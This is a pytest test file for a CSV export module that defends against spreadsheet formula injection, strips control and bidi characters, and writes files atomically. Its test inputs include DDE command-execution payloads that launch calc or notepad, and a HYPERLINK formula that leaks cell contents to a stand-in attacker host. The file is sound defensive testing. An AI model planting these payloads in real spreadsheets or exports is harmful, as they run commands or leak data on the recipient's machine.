"""Formula-injection hardening for CSV output, and atomic writes."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from abmcli.errors import AbmError
from abmcli.safe import (
    atomic_path,
    is_formula_like,
    safe_csv_cell,
    safe_csv_frame,
    write_csv,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
BENIGN = ["Acme Corp.", "Müller & Söhne GmbH", "AT&amp;T Inc.", "", "acme.com", "1+1", "a=b"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised(text: str) -> None:
    assert is_formula_like(text)


@pytest.mark.parametrize("text", BENIGN + ["-12.5", "+3", "-1e-3", "-.5"])
def test_names_and_signed_numbers_are_not_formulas(text: str) -> None:
    assert not is_formula_like(text)


CONTROLS = "".join(map(chr, [*range(0, 9), 11, 12, *range(14, 32), *range(127, 160)]))
CONTROLS += "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def as_written(text: str) -> str:
    """Cell text as the CSV writer gets it: CR and CRLF as LF, control characters gone."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(char for char in text if char not in CONTROLS)


def test_escape_sequences_bells_and_bidi_overrides_never_reach_an_upload_file(
    tmp_path: Path,
) -> None:
    names = ["\x1b]0;pwned\x07\x1b[31mRedCorp\x1b[0m", "Acme\u202e moc.live",
             "\x1b=cmd|' /C calc'!A0"]
    path = write_csv(pd.DataFrame({"company": names}), tmp_path / "list.csv")
    text = path.read_text(encoding="utf-8")
    assert not any(char in CONTROLS for char in text)
    assert list(pd.read_csv(path)["company"]) == ["]0;pwned[31mRedCorp[0m", "Acme moc.live",
                                                  "'=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cell_gets_a_quote_prefix(text: str) -> None:
    assert safe_csv_cell(text) == "'" + as_written(text)


@pytest.mark.parametrize(
    "value", [-12, -12.5, 0.0, True, None, dt.date(2025, 3, 31), "-12.5", "Initech, Inc."]
)
def test_numbers_dates_and_plain_text_are_unchanged(value: object) -> None:
    assert safe_csv_cell(value) is value


@given(st.text(max_size=30))
def test_a_safe_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    safe = safe_csv_cell(text)
    assert isinstance(safe, str)
    assert not is_formula_like(safe)
    assert safe in (as_written(text), "'" + as_written(text))


def test_frame_is_made_safe_per_column_without_touching_numbers_or_the_input() -> None:
    frame = pd.DataFrame(
        {
            "Company Name": ["=cmd|' /C calc'!A0", "Globex GmbH", None],
            "Employees": [-5, 120, 3400],
            "Notes": pd.Series(["@SUM(1+1)", 42, "-12.5"], dtype=object),
            "=Owner": ["+Dana Whitfield", "Aiko Tanaka", "Jörg Müller"],
        }
    )
    safe = safe_csv_frame(frame)
    assert safe["Company Name"].tolist()[:2] == ["'=cmd|' /C calc'!A0", "Globex GmbH"]
    assert pd.isna(safe["Company Name"].iloc[2])
    assert safe["Employees"].tolist() == [-5, 120, 3400]
    assert safe["Employees"].dtype == frame["Employees"].dtype
    assert safe["Notes"].tolist() == ["'@SUM(1+1)", 42, "-12.5"]
    assert list(safe.columns)[3] == "'=Owner"
    assert safe["'=Owner"].iloc[0] == "'+Dana Whitfield"
    assert frame["Company Name"].iloc[0] == "=cmd|' /C calc'!A0"  # input left alone


def test_csv_bytes_are_quoted_safe_and_deterministic(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "account_name": ['=HYPERLINK("http://x","click")', "Société Générale S.A."],
            "domain": ["x.example", "societegenerale.com"],
            "intent_score": [71.5, -12.5],
            "employees": pd.array([None, 117_000], dtype="Int64"),
        }
    )
    first = write_csv(frame, tmp_path / "tier1.csv")
    expected = (
        "account_name,domain,intent_score,employees\n"
        '"\'=HYPERLINK(""http://x"",""click"")",x.example,71.5,\n'
        "Société Générale S.A.,societegenerale.com,-12.5,117000\n"
    ).encode()
    assert first.read_bytes() == expected
    second = write_csv(frame, tmp_path / "again.csv")
    assert second.read_bytes() == first.read_bytes()
    rows = list(csv.reader(io.StringIO(first.read_text(encoding="utf-8"))))
    assert rows[1][0] == '\'=HYPERLINK("http://x","click")'


def test_a_carriage_return_inside_a_cell_cannot_start_a_row(tmp_path: Path) -> None:
    # csv quotes a cell holding the line terminator "\n" but not a lone "\r"; Excel
    # starts a new row at that "\r", and the text after it would run as a formula.
    frame = pd.DataFrame({"Company Name": ["Acme\r=2+2", "\r=1+1", "Initech\r\nAustin"],
                          "Website": ["acme.com", "globex.com", "initech.com"]})
    path = write_csv(frame, tmp_path / "accounts.csv")
    data = path.read_bytes()
    assert b"\r" not in data  # every break is a quoted "\n" inside its cell
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1:] == [["Acme\n=2+2", "acme.com"], ["'\n=1+1", "globex.com"],
                        ["Initech\nAustin", "initech.com"]]


def test_csv_for_excel_can_carry_a_bom(tmp_path: Path) -> None:
    frame = pd.DataFrame({"account_name": ["Nestlé S.A."]})
    path = write_csv(frame, tmp_path / "list.csv", encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfaccount_name\n")


def test_csv_into_a_missing_folder_names_the_file(tmp_path: Path) -> None:
    target = tmp_path / "no-such-folder" / "tier1.csv"
    with pytest.raises(AbmError, match="no-such-folder/tier1.csv: cannot write the CSV"):
        write_csv(pd.DataFrame({"a": [1]}), target)


def test_atomic_path_replaces_the_file_on_success(tmp_path: Path) -> None:
    target = tmp_path / "hub.csv"
    target.write_text("old week\n")
    with atomic_path(target) as temp:
        assert temp.parent == tmp_path and temp != target
        temp.write_text("new week\n")
        assert target.read_text() == "old week\n"  # not visible until the body succeeds
    assert target.read_text() == "new week\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hub.csv"]


@pytest.mark.parametrize("interruption", [RuntimeError("disk full"), KeyboardInterrupt()])
def test_atomic_path_keeps_the_old_file_when_the_writer_fails(
    tmp_path: Path, interruption: BaseException
) -> None:
    target = tmp_path / "hub.csv"
    target.write_text("last good week\n")
    with pytest.raises(type(interruption)), atomic_path(target) as temp:
        temp.write_text("half a fi")
        raise interruption
    assert target.read_text() == "last good week\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hub.csv"]


@given(st.lists(st.none() | st.text(max_size=12) | st.sampled_from(HOSTILE + BENIGN),
                min_size=1, max_size=8), st.sampled_from(["str", "object"]))
def test_a_column_is_made_safe_cell_by_cell_whatever_its_neighbours(
        cells: list[str | None], dtype: str) -> None:
    """The whole-column scan that lets a safe column through untouched never lets a
    risky cell through: each cell comes out as `safe_csv_cell` makes it alone."""
    frame = pd.DataFrame({"text": pd.Series(cells, dtype=dtype), "n": range(len(cells))})
    safe = safe_csv_frame(frame)["text"].tolist()
    assert [None if pd.isna(value) else value for value in safe] == [
        None if cell is None else safe_csv_cell(cell) for cell in cells]


def test_csv_lines_write_missing_cells_as_write_csv_does(tmp_path: Path) -> None:
    # The streamed lineage is written with csv_lines: a nullable column's <NA> or a NaN
    # must be an empty cell there too, as in every other CSV abm writes.
    import pandas as pd

    from abmcli.safe import csv_lines, write_csv

    frame = pd.DataFrame({"score": pd.array([pd.NA, 7], dtype="Int64"),
                          "x": [float("nan"), 1.5], "name": ["=cmd", "Acme, Inc."]})
    written = write_csv(frame, tmp_path / "f.csv").read_text(encoding="utf-8").splitlines()
    assert csv_lines(frame) == written[1:]


def test_a_formula_past_the_first_scanned_slice_is_made_safe(monkeypatch) -> None:
    """The risk scan joins a slice of cells at a time (a lineage's columns joined whole
    took 50 MB); a formula in a later slice is still found, and the frame given is
    left as it was."""
    from abmcli import safe

    monkeypatch.setattr(safe, "RISK_SCAN_CELLS", 2)
    frame = pd.DataFrame({"name": ["Acme", "Globex", "Initech", "=HYPERLINK(\"x\")"],
                          "row": [1, 2, 3, 4]})
    safe_frame = safe.safe_csv_frame(frame)
    assert safe_frame["name"].tolist() == ["Acme", "Globex", "Initech", "'=HYPERLINK(\"x\")"]
    assert frame["name"].iloc[3] == "=HYPERLINK(\"x\")"
